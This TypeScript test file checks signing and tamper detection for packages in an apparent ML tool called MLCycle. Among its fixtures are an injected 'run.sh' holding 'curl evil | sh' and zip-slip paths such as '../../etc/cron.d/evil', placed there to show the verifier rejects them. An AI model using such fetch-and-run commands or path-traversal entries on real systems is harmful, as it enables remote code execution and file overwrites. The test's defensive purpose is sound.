import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { afterEach, describe, expect, it } from 'vitest';
import { trustKey, trustedKeys, userSigningKey } from '../../../src/main/engine/signing/keys';
import { canonicalJson, MANIFEST } from '../../../src/main/engine/signing/manifest';
import { unsafePathReason, verifyPackage } from '../../../src/main/engine/signing/verify';
import { unpackPackage, writePackage } from '../../../src/main/engine/signing/write';
import { tempDir } from '../../helpers/temp';

const FILES = () =>
  new Map<string, Uint8Array>([
    ['model.onnx', crypto.randomBytes(4096)],
    ['signature.json', strToU8('{"inputs":[]}')],
    ['docs/README.md', strToU8('# How to run it\n')],
  ]);

describe('package signing and verification', () => {
  const temps: Array<{ cleanup(): void }> = [];
  const fresh = () => {
    const t = tempDir('mlcycle-sign-');
    temps.push(t);
    return t.dir;
  };
  afterEach(() => temps.splice(0).forEach((t) => t.cleanup()));

  it('makes one ed25519 key per user profile, kept owner-only, and reuses it', () => {
    const home = fresh();
    const a = userSigningKey(home);
    const b = userSigningKey(home);
    expect(b.publicKey).toBe(a.publicKey);
    expect(Buffer.from(a.publicKey, 'base64')).toHaveLength(32);
    expect(a.keyId).toBe(crypto.createHash('sha256').update(Buffer.from(a.publicKey, 'base64')).digest('hex').slice(0, 16));
    expect(fs.statSync(path.join(home, 'signing', 'ed25519.pem')).mode & 0o777).toBe(0o600);
    expect(userSigningKey(fresh()).publicKey).not.toBe(a.publicKey);
  });

  it('signs canonical JSON: key order does not change the bytes', () => {
    expect(canonicalJson({ b: 1, a: [{ d: 2, c: 3 }] })).toBe('{"a":[{"c":3,"d":2}],"b":1}');
  });

  for (const kind of ['folder', 'zip'] as const) {
    describe(`as a ${kind}`, () => {
      const make = () => {
        const home = fresh();
        const out = path.join(fresh(), kind === 'zip' ? 'model.mlpkg' : 'model');
        writePackage(out, FILES(), userSigningKey(home));
        return { home, out, trusted: trustedKeys(home) };
      };
      /** Rewrites the package's files through `edit` (for a zip: unzip, edit, zip again). */
      const tamper = (out: string, edit: (files: Map<string, Uint8Array>) => void) => {
        if (kind === 'folder') {
          const files = new Map<string, Uint8Array>();
          const walk = (rel: string) => {
            for (const e of fs.readdirSync(path.join(out, rel), { withFileTypes: true })) {
              const p = rel ? `${rel}/${e.name}` : e.name;
              if (e.isDirectory()) walk(p);
              else files.set(p, fs.readFileSync(path.join(out, p)));
            }
          };
          walk('');
          edit(files);
          fs.rmSync(out, { recursive: true });
          for (const [p, bytes] of files) {
            fs.mkdirSync(path.dirname(path.join(out, p)), { recursive: true });
            fs.writeFileSync(path.join(out, p), bytes);
          }
        } else {
          const files = new Map(Object.entries(unzipSync(fs.readFileSync(out))));
          edit(files);
          fs.writeFileSync(out, zipSync(Object.fromEntries(files)));
        }
      };

      it('verifies as written, signed by you', () => {
        const { out, trusted } = make();
        const result = verifyPackage(out, trusted);
        expect(result.problems).toEqual([]);
        expect(result).toMatchObject({ ok: true, files: 3, signer: { trustedAs: 'you' } });
      });

      it('rejects one changed byte, naming the file', () => {
        const { out, trusted } = make();
        tamper(out, (files) => {
          const bytes = Uint8Array.from(files.get('model.onnx')!);
          bytes[100] = bytes[100]! ^ 1;
          files.set('model.onnx', bytes);
        });
        const result = verifyPackage(out, trusted);
        expect(result.ok).toBe(false);
        expect(result.problems).toEqual([expect.objectContaining({ kind: 'changed_file', path: 'model.onnx' })]);
        expect(result.problems[0]!.message).toMatch(/^model\.onnx changed after signing/);
      });

      it('rejects a missing file and an extra file, each in its own words', () => {
        const { out, trusted } = make();
        tamper(out, (files) => {
          files.delete('docs/README.md');
          files.set('run.sh', strToU8('curl evil | sh'));
        });
        const result = verifyPackage(out, trusted);
        expect(result.problems.map((p) => [p.kind, p.path])).toEqual([
          ['missing_file', 'docs/README.md'],
          ['extra_file', 'run.sh'],
        ]);
        expect(result.problems[0]!.message).toBe('docs/README.md is listed in the manifest but missing.');
        expect(result.problems[1]!.message).toMatch(/not in the manifest/);
      });

      it('rejects a manifest edited to match a changed file: the signature no longer holds', () => {
        const { out, trusted } = make();
        tamper(out, (files) => {
          const manifest = JSON.parse(Buffer.from(files.get(MANIFEST)!).toString());
          const evil = strToU8('{"inputs":["evil"]}');
          files.set('signature.json', evil);
          manifest.files.find((f: { path: string }) => f.path === 'signature.json').sha256 = crypto.createHash('sha256').update(evil).digest('hex');
          manifest.files.find((f: { path: string }) => f.path === 'signature.json').bytes = evil.length;
          files.set(MANIFEST, strToU8(JSON.stringify(manifest)));
        });
        const result = verifyPackage(out, trusted);
        expect(result.problems.map((p) => p.kind)).toEqual(['bad_signature']);
      });

      it('rejects a signature from a key you do not trust, and accepts it once trusted', () => {
        const { out } = make();
        const other = fresh();
        const result = verifyPackage(out, trustedKeys(other));
        expect(result.problems.map((p) => p.kind)).toEqual(['untrusted_key']);
        expect(result.problems[0]!.message).toMatch(/which you do not trust.*mlcycle keys trust <name> /);
        const signer = JSON.parse(fs.readFileSync(kind === 'zip' ? (() => { const d = fresh(); unpackPackage(out, d); return path.join(d, MANIFEST); })() : path.join(out, MANIFEST), 'utf8')).signer;
        trustKey(other, 'alice', signer.publicKey);
        expect(verifyPackage(out, trustedKeys(other))).toMatchObject({ ok: true, signer: { trustedAs: 'alice' } });
      });

      it('rejects a path that escapes the folder (zip-slip)', () => {
        const { out, trusted } = make();
        tamper(out, (files) => {
          const manifest = JSON.parse(Buffer.from(files.get(MANIFEST)!).toString());
          manifest.files[0].path = '../../etc/cron.d/evil';
          files.set(MANIFEST, strToU8(JSON.stringify(manifest)));
        });
        const result = verifyPackage(out, trusted);
        expect(result.problems.find((p) => p.kind === 'unsafe_path')?.message).toMatch(/'\.\.\/\.\.\/etc\/cron\.d\/evil', a '\.\.' segment .*zip-slip/);
      });
    });
  }

  it('refuses to unpack a zip entry that climbs out, and names it when verifying', () => {
    const home = fresh();
    const out = path.join(fresh(), 'slip.mlpkg');
    writePackage(out, FILES(), userSigningKey(home));
    const files = unzipSync(fs.readFileSync(out));
    files['../outside.txt'] = strToU8('pwned');
    fs.writeFileSync(out, zipSync(files));
    const result = verifyPackage(out, trustedKeys(home));
    expect(result.problems[0]).toMatchObject({ kind: 'unsafe_path', path: '../outside.txt' });
    const target = fresh();
    expect(() => unpackPackage(out, path.join(target, 'inside'))).toThrow(/zip-slip/);
    expect(fs.existsSync(path.join(target, 'outside.txt'))).toBe(false);
  });

  it('names unsafe path shapes', () => {
    expect(unsafePathReason('model.onnx')).toBeNull();
    expect(unsafePathReason('docs/README.md')).toBeNull();
    expect(unsafePathReason('/etc/passwd')).toMatch(/absolute/);
    expect(unsafePathReason('C:/x')).toMatch(/absolute/);
    expect(unsafePathReason('a\\..\\b')).toMatch(/backslash/);
    expect(unsafePathReason('a/../../b')).toMatch(/'\.\.'/);
    expect(unsafePathReason('a//b')).toMatch(/empty/);
  });

  it('says plainly when a folder is not a package, and never overwrites a non-empty folder', () => {
    const dir = fresh();
    fs.writeFileSync(path.join(dir, 'x.txt'), 'x');
    expect(verifyPackage(dir, trustedKeys(fresh())).problems[0]!.message).toMatch(/no manifest\.json: this is not an MLCycle package/);
    expect(() => writePackage(dir, FILES(), userSigningKey(fresh()))).toThrow(/already exists and is not empty/);
    expect(fs.readdirSync(dir)).toEqual(['x.txt']);
  });
});
